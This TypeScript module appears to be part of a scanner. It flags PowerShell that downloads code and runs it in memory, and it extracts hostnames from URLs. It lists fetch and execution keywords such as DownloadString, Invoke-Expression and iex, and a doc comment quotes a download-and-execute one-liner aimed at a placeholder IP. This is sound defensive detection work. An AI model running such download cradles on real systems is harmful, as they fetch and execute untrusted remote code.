import { plainPowerShell, powershellCommands } from './powershell-code.ts'

/** Ways to fetch something, as they read in `plainPowerShell`; commands are looked for by their names besides. */
const FETCHING = [
  'downloadstring(',
  'downloadstringasync(',
  'downloaddata(',
  'openread(',
  'getstringasync(',
  'getbytearrayasync(',
  'responsetext',
  'net.webclient',
  'invoke-webrequest',
  'invoke-restmethod',
]
const FETCHING_COMMANDS = ['invoke-webrequest', 'invoke-restmethod', 'curl', 'wget']
/** What every way to fetch has in its text, the aliases of commands too. */
const MAY_FETCH = [...FETCHING, ...FETCHING_COMMANDS, 'iwr', 'irm']

/** Ways to run text as code. */
const RUNNING = [
  'invoke-expression',
  '|iex',
  '| iex',
  'iex(',
  'iex (',
  'iex $',
  '[scriptblock]::create(',
  'invokescript(',
  'reflection.assembly]::load(',
  'assembly]::load(',
]

/** What every way to run has in its text. */
const MAY_RUN = [...RUNNING, 'iex']

const URL = /\bhttps?:\/\/[^\s'"`)<>;|,]{1,2000}/gi
/** URLs of a script that are looked at. */
const URLS_MAX = 20

/**
 * Whether a piece of PowerShell fetches code and runs it without a file: `iex (iwr http://…)`, by commands, methods or
 * joined strings. Not when it only fetches a file, or runs what lies on the disk.
 *
 * @example runsWhatItFetches("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')") // true
 */
export function runsWhatItFetches(code: string): boolean {
  const plain = plainPowerShell(code)
  // Taking a script apart costs more than looking for words, and almost none has both.
  if (!MAY_FETCH.some(word => plain.includes(word)) || !MAY_RUN.some(word => plain.includes(word)))
    return false
  const names = new Set(powershellCommands(code).map(({ name }) => name))
  const fetches =
    FETCHING.some(word => plain.includes(word)) || FETCHING_COMMANDS.some(name => names.has(name))
  return fetches && (names.has('invoke-expression') || RUNNING.some(word => plain.includes(word)))
}

/** The hosts of the URLs in a text, in lower case, each once and without port; at most 20. */
export function hostsNamed(text: string): readonly string[] {
  const hosts = new Set<string>()
  for (const [url] of text.matchAll(URL)) {
    const authority = url.slice(url.indexOf('://') + 3).split(/[/?#\\]/)[0] ?? ''
    hosts.add((authority.split('@').at(-1) ?? '').replace(/:\d{1,5}$/, '').toLowerCase())
    if (hosts.size >= URLS_MAX) break
  }
  return [...hosts]
}
